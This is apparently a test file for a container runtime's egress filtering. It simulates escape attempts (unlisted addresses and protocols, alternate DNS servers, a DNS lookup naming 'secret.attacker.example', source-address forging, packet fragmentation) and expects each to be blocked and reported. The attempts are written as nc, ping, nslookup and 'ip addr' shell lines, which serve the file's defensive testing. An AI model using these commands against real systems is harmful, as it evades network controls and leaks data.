// Ways around an egress policy: addresses without names, other protocols and name servers, the host
// itself, forged addresses, and what a container with rights over its own network changes.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import t from 'tap';
import { eventually } from '../support/bryo.ts';
import { requirePrograms } from '../support/requirements.ts';
import { Attack } from './support.ts';

requirePrograms('slirp4netns', 'nft');
const attack = new Attack();
const { sandbox } = attack;
// Sends so many bytes as a datagram and writes the answer: `datagram HOST PORT BYTES SECONDS`.
const program = `
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/time.h>
int main(int argc, char** argv) {
  static char bytes[65536];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  struct timeval patience = {.tv_sec = atoi(argv[4])};
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  inet_pton(AF_INET, argv[1], &to.sin_addr);
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
  sendto(s, bytes, atoi(argv[3]), 0, (void*)&to, sizeof(to));
  ssize_t n = recv(s, bytes, sizeof(bytes), 0);
  if (n > 0) fwrite(bytes, 1, n, stdout);
}`;
attack.probe('datagram', program);
const probe = ['-v', `${sandbox.directory}/datagram:/bin/datagram:ro`];
const outside =
  Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '';

const server = createServer((socket) => socket.end('reached\n'));
server.listen(0, outside);
await once(server, 'listening');
const socket = createSocket('udp4', (_, from) => socket.send('reached\n', from.port, from.address));
socket.bind(0, outside);
await once(socket, 'listening');
t.teardown(() => {
  for (const one of [server, socket]) one.close();
});
const listening = server.address();
const tcp = typeof listening === 'object' ? (listening?.port ?? 0) : 0;
const udp = socket.address().port;

const rights = ['--cap-add', 'NET_ADMIN,NET_RAW', '--security-opt', 'seccomp=unconfined'];
sandbox.ok('network', 'create', '--subnet', '10.127.1.0/24', '--subnet', 'fd12:127::/64', 'net');
const start = (name: string, ...words: string[]): string => {
  const flags = ['-d', '--name', name, '--network', 'net', ...rights, ...probe, ...words];
  return sandbox.ok('run', ...flags, 'hello', 'sleep', '1000');
};
start('bad', '--egress', 'api.example.com:443,192.0.2.9:9');
start('free');
const addressOf = (name: string): string =>
  sandbox.ok('exec', name, 'ip', '-4', 'addr', 'show', 'eth0').match(/inet ([\d.]+)\//)?.[1] ?? '';
const does = async (name: string, script: string): Promise<string> =>
  (await sandbox.runBeside(['exec', name, 'sh', '-c', script])).stdout;

const toTcp = `nc -w 20 ${outside} ${tcp}`;
const toUdp = (bytes = 1, seconds = 20): string => `datagram ${outside} ${udp} ${bytes} ${seconds}`;

const refused = (): string[] => {
  const filters = ['--filter', 'container=bad', '--filter', 'event=egress-refused'];
  const words = ['events', '--stream=false', '--since', '0', ...filters, '--format'];
  return sandbox
    .ok(...words, '{{.Refused}}')
    .trim()
    .split('\n');
};
const isTold = (what: string) => eventually(`${what} is told of`, () => refused().includes(what));

t.test('twin: without a policy both protocols lead outside', async (t) => {
  t.equal(await does('free', toTcp), 'reached\n');
  t.equal(await does('free', toUdp()), 'reached\n');
});

t.test('addresses of TCP, UDP, ICMP and IPv6 that nobody listed', async (t) => {
  t.equal(await does('bad', toTcp), '', 'the host’s own address');
  await isTold(`tcp ${outside}:${tcp}`);
  t.equal(await does('bad', toUdp(1, 2)), '');
  await isTold(`udp ${outside}:${udp}`);
  t.equal(await does('bad', `ping -c1 -W2 ${outside} >/dev/null && echo reached`), '');
  await isTold(`icmp ${outside}`);
  await does('bad', 'nc -w 2 2001:db8::1 443; ping -6 -c1 -W1 2001:db8::2');
  await isTold('tcp [2001:db8::1]:443');
  await isTold('icmp 2001:db8::2');
});

t.test('a listed address is not open at other ports, nor to other protocols', async () => {
  await does('bad', 'nc -w 2 192.0.2.9 10; datagram 192.0.2.9 9 1 1');
  await isTold('tcp 192.0.2.9:10');
  await isTold('udp 192.0.2.9:9');
});

t.test('other name servers, in the open and over HTTPS', async (t) => {
  await does(
    'bad',
    'nslookup example.com 192.0.2.53; nc -w 2 192.0.2.53 53; nc -w 2 192.0.2.54 443',
  );
  for (const what of ['udp 192.0.2.53:53', 'tcp 192.0.2.53:53', 'tcp 192.0.2.54:443']) {
    await isTold(what);
  }
  const own = await does('bad', 'nslookup secret.attacker.example 10.127.1.1 2>&1');
  t.match(own, /NXDOMAIN/, 'nor can its name say anything');
  await isTold('name secret.attacker.example');
  // The uplink answers names as well.
  await does('bad', 'nslookup example.com 198.18.77.3');
  await isTold('udp 198.18.77.3:53');
});

t.test('the address of a container without a policy is of no use', async (t) => {
  const own = addressOf('bad');
  sandbox.ok('stop', '-t', '0', 'free');
  sandbox.ok('start', 'free');
  const other = addressOf('free');
  const forged = `ip addr add ${other}/24 dev eth0; nc -w 3 -s ${other} ${outside} ${tcp}`;
  t.equal(await does('bad', forged), '');
  t.equal(
    await does(
      'bad',
      `ip addr add 10.127.1.99/24 dev eth0; nc -w 3 -s 10.127.1.99 ${outside} ${tcp}`,
    ),
    '',
  );
  await does(
    'bad',
    `ip addr flush dev eth0 scope global; ip addr add ${own}/24 dev eth0; ip route add default via 10.127.1.1`,
  );
  t.equal(await does('bad', toTcp), '');
});

t.test('packets in pieces, and such that belong to no connection', async (t) => {
  t.equal(await does('free', `ip link set eth0 mtu 1280; ${toUdp(20_000)}`), 'reached\n');
  t.equal(await does('bad', `ip link set eth0 mtu 576; ${toUdp(20_000, 2)}`), '');
  await isTold(`udp ${outside}:${udp}`);
});

t.test('an address that another container had opens nothing for the next', async (t) => {
  const address = ['--network', 'net:ip=10.127.1.50'];
  const first = [
    'run',
    '--rm',
    ...address,
    '--egress',
    `${outside}:${tcp}`,
    'hello',
    'sh',
    '-c',
    toTcp,
  ];
  t.equal((await sandbox.runBeside(first)).stdout, 'reached\n');
  const next = ['run', '--rm', ...address, '--egress', '192.0.2.1', 'hello', 'sh', '-c', toTcp];
  t.equal((await sandbox.runBeside(next)).stdout, '');
  const free = ['run', '--rm', ...address, 'hello', 'sh', '-c', toTcp];
  t.equal((await sandbox.runBeside(free)).stdout, 'reached\n', 'nor is the one after held');
});

t.test('a policy holds while its holder is killed and begins anew', async (t) => {
  for (const pid of sandbox.holders()) process.kill(pid, 'SIGKILL');
  t.equal(await does('bad', toTcp), '');
  await eventually('there is another', () => sandbox.holders().length === 1);
  t.equal(await does('bad', toTcp), '');
  t.equal(await does('free', toTcp), 'reached\n');
});

t.test('nothing is left behind', async (t) => {
  t.same(attack.close(), []);
});
